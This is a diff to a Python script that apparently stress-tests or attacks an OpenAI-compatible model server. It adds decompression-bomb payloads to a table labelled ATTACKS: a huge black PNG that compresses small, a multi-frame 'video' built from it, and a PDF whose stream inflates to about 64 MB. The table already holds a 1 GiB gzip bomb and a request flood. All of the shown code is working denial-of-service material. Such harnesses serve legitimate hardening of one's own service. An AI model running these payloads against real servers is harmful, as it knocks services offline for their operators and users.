@@ -9,12 +9,15 @@ from __future__ import annotations
 
 import argparse
 import asyncio
+import base64
 import gzip
 import json
 import pathlib
+import struct
 import sys
 import time
 import urllib.parse
+import zlib
 from collections.abc import Awaitable, Callable
 
 SECONDS = 8.0
@@ -115,6 +118,47 @@ async def crowd(target: Target) -> str:
     return ", ".join(f"{count} x {status}" for status, count in sorted(found.items()))
 
 
+def attached(parts: Callable[[], list[dict]], times: int = 8) -> Attack:
+    """As `bodies`, chats with what `parts` makes."""
+
+    async def run(target: Target) -> str:
+        body = {"messages": [{"role": "user", "content": await asyncio.to_thread(parts)}], "max_tokens": 1}
+        return await bodies("/v1/chat/completions", json.dumps(body).encode(), times)(target)
+
+    return run
+
+
+def black(side: int) -> str:
+    """A square PNG, base64."""
+    packer, row = zlib.compressobj(9), bytes(1 + 3 * side)
+    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
+    chunks = ((b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)), (b"IDAT", packed), (b"IEND", b""))
+    body = b"".join(
+        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
+    )
+    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + body).decode()
+
+
+def pdf(size: int) -> str:
+    """A PDF whose page unpacks to so many bytes of text, base64."""
+    packer, piece = zlib.compressobj(9), b"BT /F 9 Tf 1 1 Td (a) Tj ET\n" * 10_000
+    content = b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()
+    objects = (
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
+        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(content), content),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    )
+    body, places = b"%PDF-1.4\n", []
+    for number, one in enumerate(objects, 1):
+        places.append(len(body))
+        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
+    table = b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
+    tail = b"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % len(body)
+    return base64.b64encode(body + table + tail).decode()
+
+
 def many(text: str, count: int) -> bytes:
     return b"[" + ",".join([text] * count).encode() + b"]"
 
@@ -149,6 +193,15 @@ ATTACKS: dict[str, Attack] = {
         "/v1/completions", gzip.compress(b" " * 2**30, 9), 8, "Content-Encoding: gzip\r\n"
     ),
     "300 requests of n = 128": crowd,
+    "images of 64 MP": attached(
+        lambda: [{"type": "image_url", "image_url": {"url": "data:image/png;base64," + black(8192)}}] * 4
+    ),
+    "videos of 64 MP": attached(
+        lambda: [{"type": "video_url", "video_url": {"url": "data:video/jpeg;base64," + ",".join([black(8192)] * 30)}}]
+    ),
+    "PDFs of 64 MB": attached(
+        lambda: [{"type": "file", "file": {"file_data": "data:application/pdf;base64," + pdf(2**26)}}], 2
+    ),
 }  # fmt: skip
 
 
